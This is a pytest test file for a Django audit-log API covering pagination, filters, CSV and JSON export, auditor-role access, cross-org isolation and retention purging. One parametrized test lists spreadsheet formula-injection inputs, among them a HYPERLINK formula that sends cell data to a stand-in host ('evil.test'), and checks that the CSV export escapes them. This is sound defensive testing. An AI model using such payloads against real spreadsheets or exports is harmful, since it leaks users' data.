"""The audit read API: cursor pages newest first, filters, CSV and JSON export; the auditor role reads
the audit log and usage and nothing else (403 on writes and on other reads, 404 across orgs); retention
per org enforced by a scheduled purge that audits itself."""

import csv
import datetime as dt
import io
import json

import pytest
from django.db import connection
from django.utils import timezone

from hangar.accounts.actors import system_actor
from hangar.accounts.retention_services import audit_retention_purge
from hangar.audit.models import AuditEvent
from hangar.audit.services import audit_record
from hangar.conversations.services import session_create
from hangar.schedule import BEAT_SCHEDULE

pytestmark = pytest.mark.django_db

AUDIT = "/api/orgs/{org}/audit/"


def rows(actor, n: int, action: str = "thing.do", **data) -> None:
    from django.db import transaction

    for i in range(n):
        with transaction.atomic():
            audit_record(actor=actor, action=action, target_type="t", target_id=str(i), data=dict(data))


def test_pages_follow_the_cursor_newest_first_without_gaps_or_repeats(api, alice):
    rows(alice.actor, 7)
    client = api(alice)
    seen, cursor = [], ""
    pages = 0
    while True:
        body = client.get(
            AUDIT.format(org="acme"), {"limit": 3, "action": "thing.do", "cursor": cursor}
        ).json()
        seen += [r["id"] for r in body["results"]]
        pages += 1
        cursor = body["next_cursor"]
        if not cursor:
            break
    assert pages == 3 and len(seen) == 7 and seen == sorted(seen, reverse=True)
    first = client.get(AUDIT.format(org="acme"), {"limit": 3, "action": "thing.do"}).json()
    rows(alice.actor, 2)  # rows written meanwhile do not shift the next page
    after = client.get(
        AUDIT.format(org="acme"), {"limit": 3, "action": "thing.do", "cursor": first["next_cursor"]}
    ).json()
    assert [r["id"] for r in after["results"]] == seen[3:6]


def test_filters_by_action_actor_target_project_session_and_time(api, alice, bob):
    session = session_create(actor=bob.actor, project=bob.project)
    rows(alice.actor, 2, action="budget.set")
    rows(bob.actor, 1, action="budget.delete")
    client = api(alice)

    def ids(**params):
        return [r["action"] for r in client.get(AUDIT.format(org="acme"), params).json()["results"]]

    assert ids(action="budget.set") == ["budget.set", "budget.set"]
    assert ids(action="budget.") == ["budget.delete", "budget.set", "budget.set"]
    assert set(ids(actor="bob@acme.test")) == {"budget.delete", "session.create"}
    assert ids(actor=str(bob.user.pk), action="budget.") == ["budget.delete"]
    assert ids(target_type="t", target_id="1") == ["budget.set"]
    assert ids(session=session.pk) == ["session.create"]
    assert ids(project=str(bob.project.pk)) == ["session.create"]
    future = (timezone.now() + dt.timedelta(hours=1)).isoformat()
    assert ids(since=future) == []
    assert len(ids(until=future, action="budget.")) == 3
    for params, field in (({"since": "last tuesday"}, "since"), ({"cursor": "bogus!"}, "cursor")):
        response = client.get(AUDIT.format(org="acme"), params)
        assert response.status_code == 400 and field in response.json()["error"]["fields"]
    assert client.get(AUDIT.format(org="acme"), {"limit": 0}).status_code == 400


def test_export_as_csv_and_json_with_the_same_filters(api, alice):
    rows(alice.actor, 3, action="thing.export", note="x,y")
    client = api(alice)
    response = client.get(AUDIT.format(org="acme") + "export.csv", {"action": "thing.export"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    table = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [r["action"] for r in table] == ["thing.export"] * 3
    assert json.loads(table[0]["data"]) == {"note": "x,y"}
    response = client.get(AUDIT.format(org="acme") + "export.json", {"action": "thing.export"})
    exported = json.loads(b"".join(response.streaming_content))
    assert [r["target"]["id"] for r in exported] == ["2", "1", "0"]
    assert client.get(AUDIT.format(org="acme") + "export.xml").status_code == 404


def test_an_auditor_reads_audit_and_usage_and_nothing_else(api, alice, erin):
    rows(alice.actor, 1)
    client = api(erin)
    assert client.get(AUDIT.format(org="acme")).status_code == 200
    assert client.get(AUDIT.format(org="acme") + "export.csv").status_code == 200
    assert client.get("/api/orgs/acme/usage").status_code == 200
    # Everything else, reads included, is refused with a 403 (the org is theirs, the data is not).
    assert client.get("/api/orgs/acme/members/").status_code == 403
    assert client.get("/api/orgs/acme/projects/").status_code == 403
    assert client.get(f"/api/orgs/acme/projects/{alice.project.pk}/sessions/").status_code in (403, 404)
    assert (
        client.post("/api/orgs/acme/projects/", {"name": "x", "slug": "x"}, format="json").status_code == 403
    )
    assert client.put(AUDIT.format(org="acme") + "retention", {"days": 5}, format="json").status_code == 403
    assert client.post("/api/orgs/acme/tokens/", {"name": "t"}, format="json").status_code == 403


def test_members_get_403_and_other_orgs_404(api, alice, bob, charlie, erin):
    rows(alice.actor, 1)
    assert api(bob).get(AUDIT.format(org="acme")).status_code == 403
    assert api(bob).get(AUDIT.format(org="acme") + "export.json").status_code == 403
    assert api(charlie).get(AUDIT.format(org="acme")).status_code == 404
    assert api(charlie).get(AUDIT.format(org="acme") + "export.csv").status_code == 404
    assert api(erin).get(AUDIT.format(org="globex")).status_code == 404
    # charlie's own log never shows acme's rows
    actions = [r["action"] for r in api(charlie).get(AUDIT.format(org="globex")).json()["results"]]
    assert "thing.do" not in actions


def _aged(org_id: int, action: str, days: int) -> None:
    with connection.cursor() as cursor:
        cursor.execute(
            "INSERT INTO audit_auditevent (org_id, actor_type, actor_id, actor_label, action, target_type,"
            " target_id, data, request_id, created_at) VALUES (%s, 'system', '', 'test', %s, '', '', '{}', '',"
            " now() - make_interval(days => %s))",
            [org_id, action, days],
        )


def test_the_retention_purge_removes_old_rows_per_org_and_audits_itself(api, alice, charlie):
    _aged(alice.org.pk, "old.thing", 200)
    _aged(alice.org.pk, "recent.thing", 100)
    _aged(charlie.org.pk, "old.thing", 200)
    assert api(alice).put(AUDIT.format(org="acme") + "retention", {"days": 90}, format="json").json() == {
        "days": 90
    }
    assert AuditEvent.objects.filter(action="audit.retention.set").latest("id").data == {
        "before": 180,
        "after": 90,
    }

    deleted = audit_retention_purge()

    assert deleted[alice.org.pk] == 2 and deleted[charlie.org.pk] == 1  # globex keeps the default 180 days
    assert not AuditEvent.objects.filter(
        org_id=alice.org.pk, action__in=["old.thing", "recent.thing"]
    ).exists()
    purge = AuditEvent.objects.get(org_id=alice.org.pk, action="audit.purge")
    assert (purge.actor_type, purge.data["deleted"], purge.data["retention_days"]) == ("system", 2, 90)
    assert audit_retention_purge()[alice.org.pk] == 0  # nothing left to remove: no second row
    assert AuditEvent.objects.filter(org_id=alice.org.pk, action="audit.purge").count() == 1
    assert BEAT_SCHEDULE["audit-retention-purge"]["task"] == "hangar.accounts.purge_audit"


def test_outside_the_purge_audit_rows_still_cannot_be_deleted(alice):
    rows(alice.actor, 1)
    from django.db import DatabaseError, transaction

    with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
        cursor.execute("DELETE FROM audit_auditevent WHERE org_id = %s", [alice.org.pk])
    assert AuditEvent.objects.filter(org_id=alice.org.pk).exists()


def test_a_bad_retention_is_a_400_naming_days(api, alice):
    response = api(alice).put(AUDIT.format(org="acme") + "retention", {"days": 0}, format="json")
    assert response.status_code == 400 and "days" in response.json()["error"]["fields"]


def test_system_actor_rows_are_readable(api, alice):
    from django.db import transaction

    with transaction.atomic():
        audit_record(
            actor=system_actor(alice.org.pk, "budget"), action="budget.blocked", data={"session": "s1"}
        )
    body = api(alice).get(AUDIT.format(org="acme"), {"session": "s1"}).json()
    assert body["results"][0]["actor"] == {"type": "system", "id": "budget", "label": "budget"}


def test_an_admin_can_grant_the_auditor_role_audited(api, alice):
    added = api(alice).post(
        "/api/orgs/acme/members/", {"email": "ivy@acme.test", "role": "auditor"}, format="json"
    )
    assert added.status_code == 201 and added.json()["role"] == "auditor"
    assert AuditEvent.objects.filter(action="member.add").latest("id").data["role"] == "auditor"


FORMULAS = ['=HYPERLINK("http://evil.test/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tTAB"]


@pytest.mark.parametrize("request_id", FORMULAS)
def test_the_csv_export_escapes_cells_a_spreadsheet_would_read_as_formulas(api, alice, request_id):
    client = api(alice)
    response = client.put(
        AUDIT.format(org="acme") + "retention", {"days": 90}, format="json", HTTP_X_REQUEST_ID=request_id
    )
    assert response.status_code == 200
    response = client.get(AUDIT.format(org="acme") + "export.csv", {"action": "audit.retention.set"})
    table = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    assert [r["request_id"] for r in table] == ["'" + request_id]  # text, never a formula
    assert json.loads(table[0]["data"]) == {"before": 180, "after": 90}  # other cells untouched


def test_an_org_cannot_keep_its_audit_log_for_less_than_the_operators_minimum(api, alice, settings):
    settings.HANGAR_AUDIT_RETENTION_MIN_DAYS = 30
    response = api(alice).put(AUDIT.format(org="acme") + "retention", {"days": 7}, format="json")
    assert response.status_code == 400
    assert "30" in response.json()["error"]["fields"]["days"][0]
    assert api(alice).get(AUDIT.format(org="acme") + "retention").json() == {"days": 180}
    # A value stored before the operator raised the floor never purges younger rows than the floor.
    from hangar.accounts.models import Org

    Org.objects.filter(pk=alice.org.pk).update(audit_retention_days=1)
    _aged(alice.org.pk, "week.old", 7)
    _aged(alice.org.pk, "quarter.old", 90)
    assert audit_retention_purge()[alice.org.pk] == 1
    assert AuditEvent.objects.filter(org_id=alice.org.pk, action="week.old").exists()
